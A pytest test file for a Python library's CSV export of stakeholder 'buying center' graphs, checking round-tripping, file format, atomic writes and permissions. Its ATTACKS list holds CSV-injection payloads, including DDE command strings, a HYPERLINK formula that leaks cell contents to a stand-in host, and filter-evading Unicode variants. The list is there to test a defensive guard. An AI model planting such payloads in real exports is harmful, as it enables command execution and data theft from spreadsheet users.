from __future__ import annotations

import csv
import datetime as dt
import os
import stat
import sys
from pathlib import Path

import networkx as nx
import pytest

import stakeholder_graph as sg
from stakeholder_graph.errors import SchemaError
from stakeholder_graph.io.csv_reading import read_csv
from stakeholder_graph.io.csv_writing import write_csv

# What spreadsheets run or resolve: after the OWASP page on CSV injection, with forms that filters overlook.
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    "'=1+1",
    "''=1+1",
    "'  =1+1",
)


def cells_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for record in csv.reader(file) for cell in record]


def opens_a_formula(cell):
    return cell.replace("\u200b", "").replace("\ufeff", "").strip()[:1] in tuple("=+-@＝＋－＠﹦−")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_a_formula_and_all_come_back(tmp_path, attack):
    text = attack.strip()
    G = sg.BuyingCenter(account=text, own=text)
    G.add_contact(text, name=text, title=text, department=text, evidence=text, notes=text, own=text)
    G.add_contact("b", reports_to=text)
    G.add_influence(text, "b", 0.5, evidence=text)
    G.add_motive(text, "personal", text, topic=text)
    G.add_teammate("t", name=text)
    G.add_relationship("t", text, notes=text)
    folder = write_csv(G, tmp_path)
    assert not [cell for path in folder.iterdir() for cell in cells_of(path) if opens_a_formula(cell)]
    assert nx.utils.graphs_equal(read_csv(folder), G)


@pytest.mark.parametrize("attack", ATTACKS)
def test_spaces_and_controls_before_a_formula_are_no_way_around_the_guard(tmp_path, attack):
    G = sg.BuyingCenter()
    G.add_contact("a", name=attack)
    assert not [cell for cell in cells_of(write_csv(G, tmp_path) / "contacts.csv") if opens_a_formula(cell)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_headers_cannot_be_formulas_either(tmp_path, attack):
    name = attack.strip().replace("\t", "")
    G = sg.BuyingCenter()
    G.add_contact("a", **{name: "x"})
    folder = write_csv(G, tmp_path)
    assert not [cell for cell in cells_of(folder / "contacts.csv") if opens_a_formula(cell)]
    assert read_csv(folder).nodes["a"] == {name: "x"}


def test_negative_numbers_stay_plain_and_negative_texts_do_not(tmp_path):
    G = sg.BuyingCenter()
    G.add_contact("a", stance=-0.5, name="-0.5", margin=-3)
    G.add_contact("b")
    G.add_influence("a", "b", 0.25, sign=-1)
    write_csv(G, tmp_path)
    assert cells_of(tmp_path / "contacts.csv")[4:8] == ["a", "'-0.5", "-0.5", "-3"]
    assert cells_of(tmp_path / "influences.csv")[4:] == ["a", "b", "0.25", "-1"]


def test_files_are_as_a_spreadsheet_wants_them(tmp_path):
    G = sg.BuyingCenter(account="江州银行", as_of=dt.date(2026, 6, 30), stage="evaluate", amount=1e6)
    G.add_contact("001", roles=["expert", "user"], joined=dt.date(2020, 2, 3), influencers_complete=False, level=2)
    write_csv(G, tmp_path)
    header = "contact_id,level,roles,influencers_complete,joined"
    expected = f"\ufeff{header}\r\n001,2,expert;user,false,2020-02-03\r\n"
    assert (tmp_path / "contacts.csv").read_bytes() == expected.encode()
    expected = "\ufeffaccount,stage,as_of,amount\r\n江州银行,evaluate,2026-06-30,1000000.0\r\n"
    assert (tmp_path / "account.csv").read_bytes() == expected.encode()


def test_only_tables_with_rows_are_written_and_only_columns_with_values(tmp_path):
    G = sg.BuyingCenter()
    G.add_contact("a")
    folder = write_csv(G, tmp_path)
    assert [path.name for path in folder.iterdir()] == ["contacts.csv"]
    assert cells_of(folder / "contacts.csv") == ["contact_id", "a"]


def test_all_six_tables_are_written_where_all_have_rows(tmp_path):
    G = sg.random_buying_center(5)
    G.add_motive("c000", "personal")
    names = {"contacts.csv", "influences.csv", "motives.csv", "team.csv", "relationships.csv", "account.csv"}
    assert {path.name for path in write_csv(G, tmp_path).iterdir()} == names


def test_key_and_required_columns_are_always_there(tmp_path):
    G = sg.random_buying_center(3)
    G.add_motive("c000", "personal")
    write_csv(G, tmp_path)
    assert cells_of(tmp_path / "motives.csv")[:2] == ["contact", "kind"]
    assert cells_of(tmp_path / "relationships.csv")[:2] == ["teammate", "contact"]


def test_extras_follow_sorted_by_name(tmp_path):
    G = sg.BuyingCenter()
    G.add_contact("a", zeal="1", name="A", age="2")
    write_csv(G, tmp_path)
    assert cells_of(tmp_path / "contacts.csv")[:4] == ["contact_id", "name", "age", "zeal"]


def test_the_folder_is_made_and_returned(tmp_path):
    folder = tmp_path / "new" / "deep"
    assert write_csv(sg.example_buying_center(), str(folder)) == folder
    assert (folder / "contacts.csv").is_file()


def test_older_tables_are_replaced_and_other_files_are_left_alone(tmp_path):
    write_csv(sg.random_buying_center(5), tmp_path)
    (tmp_path / "联系人.csv").write_text("编号\nx\n", encoding="utf-8")
    (tmp_path / "MOTIVES.CSV").write_text("contact,kind\n", encoding="utf-8")
    (tmp_path / "README.md").write_text("mine", encoding="utf-8")
    (tmp_path / "contacts.xlsx").write_text("mine", encoding="utf-8")
    G = sg.BuyingCenter()
    G.add_contact("a")
    write_csv(G, tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["README.md", "contacts.csv", "contacts.xlsx"]
    assert nx.utils.graphs_equal(read_csv(tmp_path), G)


def test_writing_again_gives_the_same_bytes(tmp_path):
    G = sg.random_buying_center(20, 3)
    first = {path.name: path.read_bytes() for path in write_csv(G, tmp_path).iterdir()}
    assert {path.name: path.read_bytes() for path in write_csv(G, tmp_path).iterdir()} == first


def test_a_plain_digraph_that_keeps_the_schema_can_be_written(tmp_path):
    G = nx.DiGraph(account="x")
    G.add_edge("a", "b", weight=0.5)
    H = read_csv(write_csv(G, tmp_path))
    assert isinstance(H, sg.BuyingCenter)
    assert nx.utils.graphs_equal(H, G)


def test_a_graph_that_breaks_the_schema_is_not_written(tmp_path):
    G = nx.DiGraph()
    G.add_edge("a", "b", weight=1.5)
    with pytest.raises(SchemaError, match="outside its range"):
        write_csv(G, tmp_path / "new")
    assert not (tmp_path / "new").exists()


def test_a_graph_without_contacts_is_not_written(tmp_path):
    with pytest.raises(SchemaError, match="there is no contact"):
        write_csv(sg.BuyingCenter(), tmp_path)
    assert not [*tmp_path.iterdir()]


def test_a_failure_while_writing_leaves_the_older_files_as_they_were(tmp_path, monkeypatch):
    before = {path.name: path.read_bytes() for path in write_csv(sg.example_buying_center(), tmp_path).iterdir()}

    def full_disk(path, mode):
        open_file = real(path, mode)
        opened.append(open_file)
        if len(opened) == 2:  # the second of three files
            open_file.close()
            raise OSError(28, "No space left on device")
        return open_file

    opened, real = [], Path.open
    monkeypatch.setattr(Path, "open", full_disk)
    with pytest.raises(OSError, match="No space left"):
        write_csv(sg.random_buying_center(4), tmp_path)
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_the_graph_is_not_changed(tmp_path):
    G = sg.random_buying_center(6)
    H = G.copy()
    write_csv(G, tmp_path)
    assert nx.utils.graphs_equal(G, H)


def test_a_file_in_the_place_of_the_folder_is_not_overwritten(tmp_path):
    path = tmp_path / "file"
    path.write_text("mine", encoding="utf-8")
    with pytest.raises(FileExistsError):
        write_csv(sg.example_buying_center(), path)
    assert path.read_text(encoding="utf-8") == "mine"


@pytest.mark.skipif(sys.platform == "win32", reason="permissions are of another kind there")
def test_files_are_as_readable_as_any_new_file_or_as_the_one_they_replace(tmp_path):
    umask = os.umask(0o027)
    try:
        write_csv(sg.example_buying_center(), tmp_path)
        modes = {stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()}
        (tmp_path / "contacts.csv").chmod(0o664)
        write_csv(sg.example_buying_center(), tmp_path)
    finally:
        os.umask(umask)
    assert modes == {0o640}
    assert stat.S_IMODE((tmp_path / "contacts.csv").stat().st_mode) == 0o664
